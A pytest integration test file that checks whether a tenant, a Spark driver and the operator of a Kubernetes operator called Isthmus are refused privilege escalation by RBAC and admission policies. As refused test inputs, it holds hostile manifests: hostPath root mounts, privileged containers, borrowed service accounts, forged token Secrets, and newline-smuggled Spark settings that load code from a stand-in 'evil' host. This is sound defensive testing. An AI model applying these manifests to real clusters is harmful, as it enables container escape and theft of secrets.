"""What a tenant that may write all Isthmus resources, and nothing else, can reach by them: nothing that it may not.

The API server refuses each try: by RBAC, by the schemas, or by the admission policies of the chart.
"""

from __future__ import annotations

import contextlib
import copy
import json
from collections.abc import Callable, Iterator
from typing import Any

import pytest

from . import installation
from .harness.cluster import Cluster
from .harness.host import CommandError

SIDE = {"name": "side", "image": "evil:1"}


def resource(kind: str, **spec: Any) -> dict[str, Any]:
    return {"apiVersion": "isthmus.dev/v1alpha1", "kind": kind, "metadata": {"name": "x"}, "spec": spec}


def router(**pod: Any) -> dict[str, Any]:
    return resource("Router", podTemplate={"spec": pod})


def labelled(kind: str, **keys: str) -> dict[str, Any]:
    return resource("Router", podTemplate={"metadata": {kind: keys}})


def near(**term: Any) -> dict[str, Any]:
    """A Router away from other pods."""
    item = {"topologyKey": "kubernetes.io/os", "labelSelector": {}, **term}
    rules = {
        "requiredDuringSchedulingIgnoredDuringExecution": [item],
        "preferredDuringSchedulingIgnoredDuringExecution": [{"weight": 1, "podAffinityTerm": item}],
    }
    return router(affinity={"podAntiAffinity": rules})


def mounting(volume: str) -> dict[str, Any]:
    side = {**SIDE, "volumeMounts": [{"name": volume, "mountPath": "/mnt"}]}
    return router(initContainers=[side])


def analysis(**spec: Any) -> dict[str, Any]:
    return resource("FlowAnalysis", flowLogRef={"name": "flows"}, **spec)


def site(**spec: Any) -> dict[str, Any]:
    return resource("RelaySite", routerRef={"name": "hub"}, group="g", site="x", **spec)


def plain(
    kind: str, version: str = "v1", labels: dict[str, str] | None = None, **fields: Any
) -> dict[str, Any]:
    metadata = {"name": "x", "labels": labels or {}}
    return {"apiVersion": version, "kind": kind, "metadata": metadata, **fields}


_CONTEXT = {"allowPrivilegeEscalation": False, "capabilities": {"drop": ["ALL"]}}
CONFINED: dict[str, Any] = {
    "containers": [{**SIDE, "securityContext": _CONTEXT}],
    "securityContext": {"runAsNonRoot": True, "seccompProfile": {"type": "RuntimeDefault"}},
}
POD = plain("Pod", spec={"containers": [SIDE]})
LOG = {"routerRef": {"name": "hub"}, "volume": {"size": "1Gi"}}
RBAC = "rbac.authorization.k8s.io/v1"
ROLE = {"apiGroup": "rbac.authorization.k8s.io", "kind": "Role", "name": "x"}
DRIVER = {**ROLE, "name": "isthmus-flow-driver"}
SUBJECT = {"kind": "ServiceAccount", "name": "tenant", "namespace": "default"}

BY_RESOURCES: list[tuple[str, dict[str, Any]]] = [
    ("hostNetwork", router(hostNetwork=True)),
    ("hostPID", router(hostPID=True)),
    ("hostIPC", router(hostIPC=True)),
    ("hostUsers", router(hostUsers=True)),
    ("nodeName", router(nodeName="control-plane")),
    ("serviceAccountName", router(serviceAccountName="isthmus-operator")),
    ("automountServiceAccountToken", router(automountServiceAccountToken=True)),
    ("shareProcessNamespace", router(shareProcessNamespace=True)),
    ("hostAliases", router(hostAliases=[{"ip": "10.0.0.1", "hostnames": ["a"]}])),
    ("dnsConfig", router(dnsConfig={"nameservers": ["203.0.113.1"]})),
    ("volumes", router(volumes=[{"name": "h", "hostPath": {"path": "/"}}])),
    ("volumes", router(volumes=[{"name": "s", "secret": {"secretName": "others"}}])),
    ("volumes", router(volumes=[{"name": "t", "projected": {"sources": []}}])),
    ("containers", router(containers=[{"name": "router", "command": ["sh"]}])),
    ("containers", router(containers=[{"name": "router", "securityContext": {"privileged": True}}])),
    ("containers", router(containers=[{"name": "router", "image": "evil:1"}])),
    ("containers", router(containers=[{"name": "router", "envFrom": [{"secretRef": {"name": "others"}}]}])),
    ("spec.image", resource("Router", image="evil:1")),
    ("spec.image", resource("Router", image="evil:1\nx")),
    ("spec.image", resource("GossipRouter", image="evil:1")),
    ("spec.image", resource("FlowLog", **LOG, image="evil:1")),
    ("spec.image", analysis(image="evil:1")),
    ("hostNetwork", resource("GossipRouter", podTemplate={"spec": {"hostNetwork": True}})),
    ("hostNetwork", resource("FlowLog", **LOG, podTemplate={"spec": {"hostNetwork": True}})),
    ("serviceAccountName", analysis(podTemplate={"spec": {"serviceAccountName": "isthmus-operator"}})),
    ("containers", analysis(podTemplate={"spec": {"containers": [{"name": "driver", "args": ["x"]}]}})),
    ("sparkConf", analysis(sparkConf={"spark.task.cpus": "1\nspark.jars http://evil/x.jar"})),
    ("sparkConf", analysis(sparkConf={"spark.kubernetes.namespace": "kube-system"})),
    ("sparkConf", analysis(sparkConf={"spark.submit.pyFiles": "http://evil/x.py"})),
    ("sparkConf", analysis(sparkConf={"spark.authenticate": "false"})),
]
LISTENER = {"name": "a", "port": 5672, "exposure": "NodePort"}
HOSTNAME = {"external-dns.alpha.kubernetes.io/hostname": "bank.example"}
BY_RESOURCES += [
    ("metadata.annotations", labelled("annotations", **{"sidecar.istio.io/proxyImage": "evil:1"})),
    ("metadata.annotations", labelled("annotations", **{"isthmus.dev/restart-hash": "x"})),
    ("metadata.labels", labelled("labels", **{"sidecar.istio.io/inject": "true"})),
    ("metadata.labels", labelled("labels", app="postgres")),
    ("serviceAnnotations", resource("Router", listeners=[{**LISTENER, "serviceAnnotations": HOSTNAME}])),
    ("serviceAnnotations", resource("GossipRouter", expose="NodePort", serviceAnnotations=HOSTNAME)),
    ("serviceAnnotations", site(bridge={"serviceAnnotations": HOSTNAME})),
    ("priorityClassName", router(priorityClassName="high")),
    ("affinity", near(namespaceSelector={})),
    ("affinity", near(namespaces=["kube-system"])),
    ("volumeMounts", mounting("config")),
    ("volumeMounts", mounting("tls")),
    ("volumes", router(volumes=[{"name": "p", "persistentVolumeClaim": {"claimName": "others"}}])),
    ("volumes", router(volumes=[{"name": "e", "ephemeral": {}}])),
    ("imagePullSecrets", router(imagePullSecrets=[{"name": "x", "namespace": "kube-system"}])),
    ("securityContext", router(securityContext={"fsGroup": 26})),
    ("securityContext", router(securityContext={"supplementalGroups": [26]})),
    ("claimName", resource("FlowLog", routerRef={"name": "hub"}, volume={"claimName": "others"})),
    ("secretName", resource("FlowLog", routerRef={"name": "hub"}, s3={"url": "s3a://bucket/flows"})),
    ("exposure", resource("Router", listeners=[{**LISTENER, "exposure": "LoadBalancer"}])),
    ("expose", resource("GossipRouter", expose="LoadBalancer")),
    ("expose", site(bridge={"expose": "LoadBalancer"})),
]
DIRECTLY: list[tuple[str, dict[str, Any]]] = [
    ("forbidden", POD),
    ("forbidden", plain("Secret")),
    ("forbidden", plain("RoleBinding", RBAC, roleRef=ROLE, subjects=[SUBJECT])),
]
OURS = {"app.kubernetes.io/managed-by": "isthmus-operator"}
TOKEN = plain("Secret", labels=OURS, type="kubernetes.io/service-account-token")
TOKEN["metadata"]["annotations"] = {"kubernetes.io/service-account.name": "default"}
DRIVER_ACCOUNT = "daily-analysis"
DRIVER_POD = "11111111-2222-3333-4444-555555555555"
STORE = {"url": "s3a://flows", "endpoint": "http://store:9000", "secretName": "keys"}
Change = Callable[[dict[str, Any]], object]


def of_pod(**fields: Any) -> Change:
    return lambda pod: pod["spec"].update(fields)


def of_container(**fields: Any) -> Change:
    return lambda pod: pod["spec"]["containers"][0].update(fields)


def of_context(**fields: Any) -> Change:
    return lambda pod: pod["spec"]["containers"][0]["securityContext"].update(fields)


def of_pod_context(**fields: Any) -> Change:
    return lambda pod: pod["spec"]["securityContext"].update(fields)


def of_metadata(kind: str, **keys: str) -> Change:
    return lambda pod: pod["metadata"].setdefault(kind, {}).update(keys)


def volume(**source: Any) -> Change:
    return lambda pod: pod["spec"]["volumes"].append({"name": "another", **source})


def variable(secret: str) -> Change:
    entry = {"name": "A", "valueFrom": {"secretKeyRef": {"name": secret, "key": "a"}}}
    return lambda pod: pod["spec"]["containers"][0]["env"].append(entry)


NOT_MOUNTED = "mount no Secret but that of their FlowAnalysis"
ONE_CONTAINER = "have one container"
SECURITY = "have the security context"
BY_THE_DRIVER: list[tuple[str, Change]] = [
    ("belong to the pod that has the token", lambda pod: pod["metadata"].pop("ownerReferences")),
    (
        "belong to the pod that has the token",
        lambda pod: pod["metadata"]["ownerReferences"][0].update(uid=DRIVER_POD[::-1]),
    ),
    ("have the labels", of_metadata("labels", app="postgres")),
    ("have the labels", of_metadata("labels", **{"app.kubernetes.io/name": "isthmus-router"})),
    ("have the labels", of_metadata("labels", **{"isthmus.dev/router": "x"})),
    ("have the labels", of_metadata("labels", **{"isthmus.dev/flowanalysis": "other"})),
    ("have annotations", of_metadata("annotations", **{"k8s.v1.cni.cncf.io/networks": "x"})),
    ("no token, and no service account", of_pod(automountServiceAccountToken=True)),
    ("no service account", of_pod(serviceAccountName="isthmus-operator")),
    ("no token, and no service account", of_pod(serviceAccountName="other")),
    ("no namespaces of the host", of_pod(hostNetwork=True)),
    ("no namespaces of the host", of_pod(hostPID=True)),
    ("no namespaces of the host", of_pod(hostIPC=True)),
    ("no namespaces of the host", of_pod(nodeName="no-such-node")),
    ("no priority class", of_pod(priorityClassName="system-node-critical")),
    (NOT_MOUNTED, volume(secret={"secretName": "isthmus-authority"})),
    (NOT_MOUNTED, volume(secret={"secretName": "x-config"})),
    (NOT_MOUNTED, volume(persistentVolumeClaim={"claimName": "others"})),
    (NOT_MOUNTED, volume(hostPath={"path": "/"})),
    (NOT_MOUNTED, volume(projected={"sources": [{"serviceAccountToken": {"path": "token"}}]})),
    (NOT_MOUNTED, volume(projected={"sources": [{"secret": {"name": "isthmus-authority"}}]})),
    (NOT_MOUNTED, volume(csi={"driver": "secrets-store.csi.k8s.io"})),
    ("variables of executors", variable("isthmus-authority")),
    ("variables of executors", of_container(envFrom=[{"secretRef": {"name": "isthmus-authority"}}])),
    ("have the image of analyses", of_container(image="evil:1")),
    (ONE_CONTAINER, of_container(command=["sh"])),
    (ONE_CONTAINER, of_container(args=["run"])),
    (ONE_CONTAINER, of_container(ports=[{"containerPort": 1, "hostPort": 1}])),
    (ONE_CONTAINER, lambda pod: pod["spec"]["containers"].append({**pod["spec"]["containers"][0], **SIDE})),
    (ONE_CONTAINER, of_pod(initContainers=[SIDE])),
    (SECURITY, of_context(privileged=True, allowPrivilegeEscalation=True)),
    (SECURITY, of_context(runAsUser=0)),
    (SECURITY, of_context(capabilities={"drop": ["ALL"], "add": ["SYS_ADMIN"]})),
    (SECURITY, of_context(seccompProfile={"type": "Unconfined"})),
    (SECURITY, of_pod_context(fsGroup=26)),
    (SECURITY, of_pod_context(supplementalGroups=[26])),
    (SECURITY, of_pod_context(runAsNonRoot=False)),
]
BY_THE_OPERATOR: list[tuple[str, dict[str, Any]]] = [
    ("makes no tokens", TOKEN),
    ("only Secrets of its own", plain("Secret")),
    ("only Secrets of its own", plain("Secret", labels={"app.kubernetes.io/managed-by": "Helm"})),
    ("accounts of the same namespace", plain("RoleBinding", RBAC, roleRef=DRIVER, subjects=[SUBJECT])),
    ("forbidden", plain("RoleBinding", RBAC, roleRef=ROLE, subjects=[SUBJECT])),
    ("forbidden", POD),
]
OF_OTHERS = (
    plain("ServiceAccount"),
    plain("ConfigMap", data={"a": "b"}),
    plain("Service", spec={"ports": [{"port": 80}], "selector": {"a": "b"}}),
    plain("NetworkPolicy", "networking.k8s.io/v1", spec={"podSelector": {}}),
)


class Place:
    """A namespace with an operator, and a tenant that may write all Isthmus resources there, and nothing else."""

    def __init__(self, cluster: Cluster, namespace: str) -> None:
        self._cluster = cluster
        self._namespace = namespace
        subject = {"kind": "ServiceAccount", "name": "tenant", "namespace": namespace}
        rules = [{"apiGroups": ["isthmus.dev"], "resources": ["*"], "verbs": ["*"]}]
        cluster.apply(
            plain("Role", RBAC, rules=rules),
            plain("RoleBinding", RBAC, roleRef=ROLE, subjects=[subject]),
            namespace=namespace,
        )

    @property
    def namespace(self) -> str:
        return self._namespace

    def allow_pods(self, account: str, verb: str) -> None:
        """Give a service account a right on pods."""
        subject = {"kind": "ServiceAccount", "name": account, "namespace": self._namespace}
        rules = [{"apiGroups": [""], "resources": ["pods"], "verbs": [verb]}]
        metadata = {"name": f"{account}-{verb}"}  # not that of a role of the chart
        role = {**plain("Role", RBAC, rules=rules), "metadata": metadata}
        reference = {**ROLE, **metadata}
        binding = {**plain("RoleBinding", RBAC, roleRef=reference, subjects=[subject]), "metadata": metadata}
        self._cluster.apply(role, binding, namespace=self._namespace)

    def create(self, account: str, manifest: dict[str, Any], pod: str | None = None) -> None:
        """As this service account, by a token of the pod with the uid `pod`; nothing is stored."""
        self.kubectl(
            *("create", "--dry-run=server", "--filename=-"),
            input=json.dumps(manifest),
            as_account=account,
            pod=pod,
        )

    def kubectl(
        self, *words: str, input: str | None = None, as_account: str | None = None, pod: str | None = None
    ) -> str:
        """As the administrator, or as a service account, by a token of the pod with the uid `pod`."""
        place = [f"--namespace={self._namespace}"]
        if as_account is not None:
            place.append(f"--as=system:serviceaccount:{self._namespace}:{as_account}")
        if pod is not None:
            place.append(f"--as-user-extra=authentication.kubernetes.io/pod-uid={pod}")
        return self._cluster.kubectl(*words, *place, input=input)

    def refused(self, account: str, word: str, manifest: dict[str, Any], pod: str | None = None) -> None:
        """It must not create this, and the answer has `word` in it."""
        with pytest.raises(CommandError) as error:
            self.create(account, manifest, pod)
        assert word in error.value.output, manifest

    def executor(self, driver: str) -> dict[str, Any]:
        """The pod that Spark makes from what the operator describes, for the driver with the uid `driver`. The tenant
        has a FlowAnalysis afterwards, which makes the account of the driver."""
        log = resource("FlowLog", routerRef={"name": "hub"}, s3=STORE)
        log["metadata"] |= {"name": "flows", "annotations": {"isthmus.dev/paused": "true"}}
        daily = analysis(suspend=True)
        daily["metadata"] |= {"name": "daily"}
        keys = plain("Secret", labels={"isthmus.dev/use": "true"})
        keys["metadata"] |= {"name": "keys"}
        keys["stringData"] = {"AWS_ACCESS_KEY_ID": "a", "AWS_SECRET_ACCESS_KEY": "b"}
        self.kubectl("apply", "--filename=-", input=json.dumps(keys))
        text = "\n---\n".join(map(json.dumps, (log, daily)))
        self.kubectl("apply", "--filename=-", input=text, as_account="tenant")
        self._cluster.wait("create", f"rolebinding/{DRIVER_ACCOUNT}", namespace=self._namespace)
        self._cluster.wait("create", f"configmap/{DRIVER_ACCOUNT}", namespace=self._namespace)
        made = self._cluster.get(f"configmap/{DRIVER_ACCOUNT}", namespace=self._namespace)["data"]
        pod: dict[str, Any] = {"apiVersion": "v1", "kind": "Pod", **json.loads(made["executor.json"])}
        owner = {"apiVersion": "v1", "kind": "Pod", "name": "driver", "uid": driver, "controller": True}
        pod["metadata"] |= {"name": "executor", "ownerReferences": [owner]}
        pod["metadata"]["labels"] |= {
            "spark-role": "executor",
            "spark-app-selector": driver,
            "spark-exec-id": "1",
        }
        (container,) = pod["spec"]["containers"]
        (image,) = [
            line.split()[1]
            for line in made["spark-defaults.conf"].splitlines()
            if line.startswith("spark.kubernetes.container.image ")
        ]
        container |= {"image": image, "args": ["executor"]}
        return pod

    @contextlib.contextmanager
    def lax(self) -> Iterator[None]:
        """Without Pod Security, which refuses some pods before admission policies do."""
        label = "pod-security.kubernetes.io/enforce"
        words = ("label", "namespace", self._namespace, "--overwrite")
        self._cluster.kubectl(*words, f"{label}=privileged")
        yield
        self._cluster.kubectl(*words, f"{label}=restricted")


@pytest.fixture(scope="module")
def place(cluster: Cluster) -> Iterator[Place]:
    with (
        installation.schemas(cluster),
        cluster.namespace("tenant") as name,
        installation.operator(cluster, name),
    ):
        yield Place(cluster, name)


def test_the_api_server_finds_no_mistake_in_the_admission_policies(cluster: Cluster, place: Place) -> None:
    """It compiles and type-checks them."""

    def checked() -> list[dict[str, Any]]:
        found = [
            item
            for item in cluster.get("validatingadmissionpolicies")["items"]
            if item["metadata"]["name"].startswith(f"{place.namespace}-")
        ]
        assert all("observedGeneration" in item.get("status", {}) for item in found)
        return found

    policies = cluster.eventually("the policies are checked", checked)
    warnings = [item["status"].get("typeChecking", {}).get("expressionWarnings") for item in policies]
    assert len(policies) == 10
    assert not any(warnings), warnings


def test_the_tenant_may_write_what_it_is_meant_to(place: Place) -> None:
    for manifest in (
        resource("Router"),
        router(nodeSelector={"a": "b"}),
        analysis(schedule="@daily"),
        site(bridge={"serviceAnnotations": {"owner": "me"}}),
        labelled("annotations", **{"prometheus.io/scrape": "false"}, owner="me"),
        labelled("labels", **{"app.kubernetes.io/version": "1"}),
        near(),
        resource("Router", listeners=[LISTENER]),
        resource("FlowLog", **LOG),
        mounting("mine"),
    ):
        place.create("tenant", manifest)


def test_no_resource_of_a_tenant_gets_rights(place: Place) -> None:
    for word, manifest in (*BY_RESOURCES, *DIRECTLY):
        place.refused("tenant", word, manifest)


def test_a_driver_makes_no_pod_with_the_account_of_the_operator(place: Place) -> None:
    """It could read all Secrets that the operator may read."""
    place.allow_pods("driver", "create")
    pod = plain("Pod", spec={**CONFINED})
    place.create("driver", pod)
    pod["spec"]["serviceAccountName"] = "isthmus-operator"
    place.refused("driver", "with the account of the operator of Isthmus", pod)


def test_a_driver_makes_executors_and_no_other_pods(place: Place) -> None:
    """A pod can have every Secret and service account of its namespace."""
    executor = place.executor(DRIVER_POD)
    driver = DRIVER_ACCOUNT
    place.kubectl("create", "serviceaccount", "other")
    place.create(driver, executor, DRIVER_POD)
    place.refused(driver, "belong to the pod that has the token", executor)
    with place.lax():
        for word, change in BY_THE_DRIVER:
            pod = copy.deepcopy(executor)
            change(pod)
            place.refused(driver, word, pod, DRIVER_POD)


def test_a_driver_changes_and_deletes_only_its_own_objects(place: Place) -> None:
    """The image of a pod can be changed, and a driver may delete all claims by one request."""
    place.executor(DRIVER_POD)
    driver = DRIVER_ACCOUNT
    own = plain("ConfigMap", labels={"spark-app-selector": DRIVER_POD})
    foreign = plain("ConfigMap", labels={"spark-app-selector": DRIVER_POD[::-1]})
    own["metadata"]["name"], foreign["metadata"]["name"] = "spark-exec-1-conf-map", "spark-exec-2-conf-map"
    place.create(driver, own, DRIVER_POD)
    place.refused(driver, "labels what it makes", foreign, DRIVER_POD)
    named = {**own, "metadata": {**own["metadata"], "name": "x-config"}}
    place.refused(driver, "name and labels begin with spark-", named, DRIVER_POD)
    place.kubectl("create", "--filename=-", input="\n---\n".join(map(json.dumps, (own, foreign))))
    for kind, name in (("configmap", "spark-exec-2-conf-map"), ("configmap", DRIVER_ACCOUNT), ("pod", "")):
        words = ("delete", kind, name or operator_pod(place), "--dry-run=server")
        with pytest.raises(CommandError) as error:
            place.kubectl(*words, as_account=driver, pod=DRIVER_POD)
        assert "only what it has made itself" in error.value.output, words
    place.kubectl("delete", "configmap", "spark-exec-1-conf-map", as_account=driver, pod=DRIVER_POD)
    with pytest.raises(CommandError) as error:
        place.kubectl(
            *("set", "image", f"pod/{operator_pod(place)}", "operator=evil:1"),
            as_account=driver,
            pod=DRIVER_POD,
        )
    assert "a driver of a FlowAnalysis changes" in error.value.output


def operator_pod(place: Place) -> str:
    found = json.loads(
        place.kubectl("get", "pods", "--selector=app.kubernetes.io/name=isthmus-operator", "--output=json")
    )
    return str(found["items"][0]["metadata"]["name"])


def test_a_driver_changes_only_labels_of_spark_on_its_executors(place: Place) -> None:
    nowhere = {"nodeSelector": {"no-such-node": "true"}}
    parent = plain("Pod", spec={**CONFINED, **nowhere})
    made = place.kubectl("create", "--filename=-", "--output=json", input=json.dumps(parent))
    uid = json.loads(made)["metadata"]["uid"]
    executor = place.executor(uid)
    executor["metadata"]["ownerReferences"][0]["name"] = "x"
    executor["spec"] |= nowhere
    place.kubectl("create", "--filename=-", input=json.dumps(executor))

    def change(patch: dict[str, Any]) -> None:
        words = ("patch", "pod", "executor", f"--patch={json.dumps(patch)}")
        place.kubectl(*words, as_account=DRIVER_ACCOUNT, pod=uid)

    change({"metadata": {"labels": {"spark-exec-inactive": "true"}}})
    for patch in (
        {"metadata": {"labels": {"app": "postgres"}}},
        {"metadata": {"labels": {"isthmus.dev/flowanalysis": None}}},
        {"metadata": {"annotations": {"a": "b"}}},
        {"metadata": {"ownerReferences": [{"$patch": "replace"}]}},
        {"spec": {"containers": [{"name": "executor", "image": "evil:1"}]}},
    ):
        with pytest.raises(CommandError) as error:
            change(patch)
        assert "changes only labels of its executors" in error.value.output, patch
    place.kubectl("delete", "pod", "executor", "--wait=false", as_account=DRIVER_ACCOUNT, pod=uid)
    place.kubectl("delete", "pod", "x", "--wait=false")


def test_no_secret_has_the_token_of_a_driver(place: Place) -> None:
    """A person who may write Secrets would get the rights of a driver by it."""
    token = copy.deepcopy(TOKEN)
    place.kubectl("create", "--dry-run=server", "--filename=-", input=json.dumps(token))
    token["metadata"]["annotations"] = {"kubernetes.io/service-account.name": DRIVER_ACCOUNT}
    with pytest.raises(CommandError) as error:
        place.kubectl("create", "--filename=-", input=json.dumps(token))
    assert "have no tokens in Secrets" in error.value.output


def test_the_operator_itself_cannot_write_what_its_code_never_writes(place: Place) -> None:
    for word, manifest in BY_THE_OPERATOR:
        place.refused("isthmus-operator", word, manifest)


def test_the_operator_itself_changes_only_annotations_of_its_own_pods(place: Place) -> None:
    place.allow_pods("isthmus-operator", "get")  # kubectl reads before it writes
    for name, labels in (("own", OURS), ("foreign", {"app": "x"})):
        pod = plain("Pod", labels=labels, spec={**CONFINED, "nodeSelector": {"no-such-node": "true"}})
        pod["metadata"]["name"] = name
        place.kubectl("create", "--filename=-", input=json.dumps(pod))
    place.kubectl("annotate", "pod", "own", "a=b", as_account="isthmus-operator")
    for words in (
        ("annotate", "pod", "foreign", "a=b"),
        ("label", "pod", "own", "app=postgres"),
        ("label", "pod", "foreign", "app.kubernetes.io/managed-by=isthmus-operator"),
        ("set", "image", "pod/own", "side=evil:2"),
    ):
        with pytest.raises(CommandError) as error:
            place.kubectl(*words, as_account="isthmus-operator")
        assert "changes only annotations of its own pods" in error.value.output, words
    place.kubectl("delete", "pod", "own", "foreign", "--wait=false")


def test_the_operator_itself_cannot_change_or_delete_what_is_not_its_own(place: Place) -> None:
    for manifest in OF_OTHERS:
        kind = manifest["kind"]
        place.kubectl("create", "--filename=-", input=json.dumps(manifest))
        change = ("annotate", kind, "x", "a=b")
        for words in (change, ("delete", kind, "x")) if kind in {"Service", "NetworkPolicy"} else (change,):
            with pytest.raises(CommandError) as error:
                place.kubectl(*words, "--dry-run=server", as_account="isthmus-operator")
            assert "only objects of its own" in error.value.output, words
        place.kubectl("label", kind, "x", "app.kubernetes.io/managed-by=isthmus-operator")
        place.kubectl(*change, "--dry-run=server", as_account="isthmus-operator")
        place.kubectl("delete", kind, "x")
